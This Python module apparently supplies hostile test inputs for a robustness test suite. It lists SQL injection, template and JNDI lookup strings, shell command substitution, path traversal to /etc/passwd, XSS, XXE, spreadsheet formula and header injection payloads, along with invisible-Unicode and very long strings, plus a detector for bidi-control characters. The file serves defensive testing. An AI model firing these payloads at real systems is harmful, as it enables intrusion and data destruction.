"""Texts that break programs: signs nobody sees, orders to other programs, texts far too long (reliability S3)."""

import unicodedata
from itertools import chain

ORDERS = (
    "' OR '1'='1", "'; DROP TABLE evidence_item; --", "\" OR \"\"=\"", "%' --", "_%", "\\", "%00",
    "1; SELECT pg_sleep(9)", "a' UNION SELECT * FROM audit --", "$$; COPY audit TO '/etc/x'; $$", "{{7*7}}",
    "{% raw %}", "${7*7}", "#{7*7}", "${jndi:ldap://example.invalid/a}", "{0}", "{0.__class__}", "%s%s%s%n",
    "%(text)s", "$(id)", "`id`", "| id", "&& id", "; id #", "../../../../etc/passwd", "..\\..\\boot.ini",
    "file:///etc/passwd", "//example.invalid/a", "<script>alert(1)</script>", "</textarea><script>x</script>",
    "<img src=x onerror=alert(1)>", "javascript:alert(1)", "&lt;b&gt;", "&#0;", "<!--", "-->", "<![CDATA[x]]>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "=HYPERLINK(0)", "=1+1", "+1+1", "-1+1",
    "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "a\r\nSet-Cookie: b=c", "a\nBcc: a@example.invalid",
    "a\r\n\r\n<html>", "BEGIN:VEVENT", "a\nDTSTART:20260101", "ATTENDEE:mailto:a", ";,:\\n", '{"a": 1}', "[1, 2",
    '"', "'", "null", "None", "undefined", "NaN", "Infinity", "true", "-0", "1e999", "0x10", "9" * 400, "*", "?",
    "safeguarders/-", "safeguarders/sg-two", "-", "--", "-rf", "--help", "@file", "~root", "a:b:c",
    "service:rules", "{event} logged in", '2026-11-30 [info] approved by panel-team', "\N{SNOWMAN}", "e\u0301",
    "\u00e9", "p\u0430nel-team", "\uff1cscript\uff1e", "\u1e9b\u0323", "\ufb01", "I\u0307", "\u0130", "\u00df",
    "\U0001f468\u200d\U0001f469", "\U0001f1ec\U0001f1e7", "\u3164", "\u115f", "a" + "\u0301" * 500,
    "Z" + "\u0335" * 2000, "a" * 5000, "a " * 10_000, "\N{GREEK SMALL LETTER ALPHA}" * 4000, "\U0001f600" * 3000,
    "a\n" * 3000, "(" * 3000, "[" * 3000, "a" * 200_000,
)  # fmt: skip
"""Texts that another program takes for an order, and texts that are long or change when they are written."""
UNSEEN = ("Cc", "Cf", "Co", "Zl", "Zp", "Zs")
"""Kinds of signs that nobody sees (Unicode, general category)."""
PLACES = (range(0x12000), range(0xE0000, 0xE0200))
"""Where they stand."""
NO_SIGNS = tuple(chr(plane << 16 | last) for plane in range(17) for last in (0xFFFE, 0xFFFF))


def hostile_texts(most: int = 500) -> list[str]:
    """Return the texts: each sign that nobody sees in the middle of words, and the orders."""
    unseen = [chr(point) for point in chain(*PLACES) if unicodedata.category(chr(point)) in UNSEEN]
    # Private signs are many and alike, so those that come first stand for them.
    signs = [*(one for one in unseen if unicodedata.category(one) != "Co"), *NO_SIGNS]
    private = (one for one in unseen if unicodedata.category(one) == "Co")
    made = chain(ORDERS, (f"They said{sign}so." for sign in signs), (f"They said{sign}so." for sign in private))
    return [text for text, _ in zip(made, range(most), strict=False)]


def is_dangerous(text: str) -> bool:
    """Return whether a text has a sign that turns its direction, or that a terminal or a file obeys."""
    turns = {"\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"}
    return any(sign in turns or (unicodedata.category(sign) == "Cc" and sign not in "\n\r\t") for sign in text)
